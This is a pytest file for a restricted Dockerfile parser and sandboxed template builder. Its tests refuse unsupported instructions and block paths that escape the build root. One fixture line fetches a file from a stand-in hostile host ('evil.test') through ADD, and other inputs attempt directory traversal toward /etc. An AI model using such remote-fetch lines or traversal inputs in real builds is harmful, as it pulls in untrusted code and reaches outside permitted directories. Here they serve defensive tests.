"""The Dockerfile subset the engine-less builder reads."""

from __future__ import annotations

from pathlib import Path

import pytest

from sandgate.templates._dockerfile import expand, key_values, parse_dockerfile
from sandgate.templates._native import _inside
from sandgate.templates._spec import SHIPPED_TEMPLATES, default_images_dir
from sandgate.templates.errors import TemplateBuildError


def _parse(tmp_path: Path, text: str) -> list[tuple[int, str, str]]:
    path = tmp_path / "Dockerfile"
    path.write_text(text)
    return [(i.line, i.keyword, i.text) for i in parse_dockerfile(path)]


def test_continuations_and_comments(tmp_path: Path) -> None:
    text = (
        "# header\n"
        "ARG BASE_IMAGE\n"
        "FROM ${BASE_IMAGE}\n"
        "\n"
        "RUN set -eu; \\\n"
        "    # a comment inside a continuation\n"
        "    echo one; \\\n"
        "    echo two\n"
        "env A=1 \\\n"
        '    B="two words"\n'
    )
    assert _parse(tmp_path, text) == [
        (2, "ARG", "BASE_IMAGE"),
        (3, "FROM", "${BASE_IMAGE}"),
        (5, "RUN", "set -eu; echo one; echo two"),
        (9, "ENV", 'A=1 B="two words"'),
    ]


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("FROM x\nADD https://evil.test/x /x\n", r"Dockerfile:2: ADD is not supported"),
        ("COPY --chown=1:1 a /b\n", "COPY options"),
        ("RUN echo \\\n", "continuation"),
    ],
)
def test_outside_the_subset_is_refused_with_the_line(
    tmp_path: Path, text: str, message: str
) -> None:
    with pytest.raises(TemplateBuildError, match=message):
        _parse(tmp_path, text)


def test_every_shipped_dockerfile_is_in_the_subset() -> None:
    for spec in SHIPPED_TEMPLATES.values():
        steps = parse_dockerfile(default_images_dir() / spec.context / "Dockerfile")
        assert steps[0].keyword == "ARG"


def test_key_values_and_expansion() -> None:
    assert key_values('A=1 B="x y" C=', "here") == {"A": "1", "B": "x y", "C": ""}
    with pytest.raises(TemplateBuildError, match="key=value"):
        key_values("LEGACY value", "here")
    assert expand("$A/${B}/$MISSING", {"A": "a", "B": "b"}) == "a/b/"


def test_paths_cannot_leave_the_tree(tmp_path: Path) -> None:
    root = tmp_path / "root"
    (root / "etc").mkdir(parents=True)
    (root / "escape").symlink_to(tmp_path)
    assert _inside(root, "/etc/x") == (root / "etc" / "x").resolve()
    with pytest.raises(TemplateBuildError, match="leaves"):
        _inside(root, "/../../etc")
    with pytest.raises(TemplateBuildError, match="leaves"):
        _inside(root, "/escape/outside")


def test_run_streaming_hands_over_lines_and_keeps_the_tail() -> None:
    from sandgate.templates._rootfs import run_streaming

    seen: list[str] = []
    code, tail = run_streaming(["sh", "-c", "seq 1 20; echo oops >&2; exit 3"], seen.append)
    assert code == 3
    assert seen == [str(i) for i in range(1, 21)] + ["oops"]
    assert tail.splitlines() == [str(i) for i in range(7, 21)] + ["oops"]
